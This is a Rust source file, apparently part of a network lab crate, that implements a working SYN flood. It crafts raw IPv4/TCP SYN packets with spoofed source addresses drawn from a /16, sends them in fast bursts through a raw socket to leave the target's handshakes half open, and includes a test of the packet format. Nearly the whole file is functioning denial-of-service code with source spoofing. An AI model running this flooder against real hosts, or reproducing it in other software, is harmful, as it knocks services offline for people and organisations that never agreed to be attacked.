//! A SYN flood: first segments of TCP connections that nobody will continue, from made-up clients.
//!
//! The answers reach a host that is none of these clients and says nothing, so that the handshakes
//! stay half open. It counts what the kernel took; it does not know what arrived.

use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::ops::ControlFlow;

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use super::ping::checksum;
use crate::error::{Context, LabError};

const IP_BYTES: usize = 20;
const TCP_BYTES: usize = 20;
/// Segments between two questions whether to go on.
const BURST: u32 = 256;

/// Sends SYNs to `destination` as quickly as it can, in the name of the 65,534 clients of the /16
/// that `network` is in, until `goes_on` breaks it off. Returns how many it sent.
///
/// # Errors
/// Without the right to send raw packets, or without a route.
pub fn syn_flood(
    destination: SocketAddrV4,
    network: Ipv4Addr,
    mut goes_on: impl FnMut() -> ControlFlow<()>,
) -> Result<u64, LabError> {
    let mut flood = || {
        // A raw socket of this protocol sends headers as they are given (raw(7)).
        let protocol = Protocol::from(libc::IPPROTO_RAW);
        let socket = Socket::new(Domain::IPV4, Type::from(libc::SOCK_RAW), Some(protocol))?;
        let to = SockAddr::from(SocketAddrV4::new(*destination.ip(), 0));
        let (mut sent, mut number) = (0, 0);
        while goes_on().is_continue() {
            for _ in 0..BURST {
                number = step(number);
                let client = client(network, number);
                match socket.send_to(&segment(client, destination, number), &to) {
                    Ok(_) => sent += 1,
                    // A full queue loses it, as networks do.
                    Err(error) if is_full(&error) => {}
                    Err(error) => return Err(error),
                }
            }
        }
        Ok(sent)
    };
    flood().context("flood", || destination.to_string())
}

fn is_full(error: &io::Error) -> bool {
    matches!(error.raw_os_error(), Some(libc::ENOBUFS | libc::EAGAIN | libc::ENOMEM))
}

/// A walk over all 32-bit numbers without an order to be seen (a full-period congruence).
fn step(number: u32) -> u32 {
    number.wrapping_mul(1_664_525).wrapping_add(1_013_904_223)
}

/// A client of the network, with an unprivileged port.
fn client(network: Ipv4Addr, number: u32) -> SocketAddrV4 {
    let [host, other, low, high] = number.to_be_bytes();
    let [a, b, ..] = network.octets();
    // Neither the first nor the last address of the network.
    let address = Ipv4Addr::new(a, b, host.clamp(1, 254), other);
    SocketAddrV4::new(address, u16::from_be_bytes([high, low]) | 1 << 15)
}

fn segment(client: SocketAddrV4, server: SocketAddrV4, sequence: u32) -> [u8; 40] {
    let mut packet = [0; IP_BYTES + TCP_BYTES];
    let (source, destination) = (client.ip().octets(), server.ip().octets());
    let (ip, tcp) = packet.split_at_mut(IP_BYTES);
    tcp[..2].copy_from_slice(&client.port().to_be_bytes());
    tcp[2..4].copy_from_slice(&server.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&sequence.to_be_bytes());
    tcp[12..16].copy_from_slice(&[0x50, 0x02, 0xff, 0xff]);
    let pseudo_header = [source, destination, [0, 6, 0, 20]].concat();
    let sum = checksum(&[&pseudo_header, &*tcp].concat());
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    // The kernel fills in the length, the identification and the checksum.
    ip[0] = 0x45;
    ip[8..10].copy_from_slice(&[64, 6]);
    ip[12..16].copy_from_slice(&source);
    ip[16..20].copy_from_slice(&destination);
    packet
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_segment_is_a_syn_with_a_right_checksum() {
        let server = SocketAddrV4::new(Ipv4Addr::new(10, 0, 0, 5), 80);
        let client = client(Ipv4Addr::new(10, 0, 0, 0), 0xff12_3456);
        assert_eq!(*client.ip(), Ipv4Addr::new(10, 0, 254, 0x12));
        let packet = segment(client, server, 7);
        let pseudo_header = [&packet[12..20], &[0, 6, 0, 20]].concat();
        assert_eq!(checksum(&[&pseudo_header, &packet[20..]].concat()), 0);
        assert_eq!(packet[33], 2, "SYN and nothing else");
    }
}
